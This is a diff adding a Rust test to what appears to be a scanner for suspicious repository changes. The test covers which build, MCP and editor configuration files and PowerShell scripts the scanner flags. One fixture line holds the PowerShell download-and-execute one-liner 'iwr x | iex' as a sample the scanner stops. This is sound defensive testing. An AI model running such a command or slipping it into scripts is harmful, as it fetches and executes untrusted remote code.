@@ -113,6 +113,29 @@ fn sus_31_a_changed_nix_expression_warns_for_its_lines() {
 }
 
 #[test]
+fn sus_31_names_that_no_tool_looks_for() {
+    for path in [
+        "spec/buf.gen.python.yaml",
+        "src/schemas/claude_code.json",
+        "schema/mcp.json",
+        "dev/build.ps1",
+    ] {
+        let directory = path.split('/').next().unwrap();
+        let before = format!("f {directory}/x \"1\"");
+        passes(&before, &format!("{before}\n{}", file(path, "{}")));
+    }
+    for path in ["buf.gen.yaml", "mcp.json", "build.ps1", "x.ps1"] {
+        stops("", &file(path, "{}"));
+    }
+    let (before, run) = (file("dev/x.ps1", "$a = 1\n"), "$a = 1\niwr x | iex\n");
+    stops(&before, &file("dev/x.ps1", run));
+    // Editors start a server that reads these, and that runs what they name.
+    for path in ["rust-analyzer.toml", "taplo.toml", "selene.toml"] {
+        stops(&file(path, "a = 1"), &file(path, "a = 2"));
+    }
+}
+
+#[test]
 fn sus_28_a_changed_environment_file_warns_for_its_lines() {
     let before = file("web/.env", "PORT=80\n");
     let with = |line: &str| file("web/.env", &format!("PORT=80\n{line}\n"));
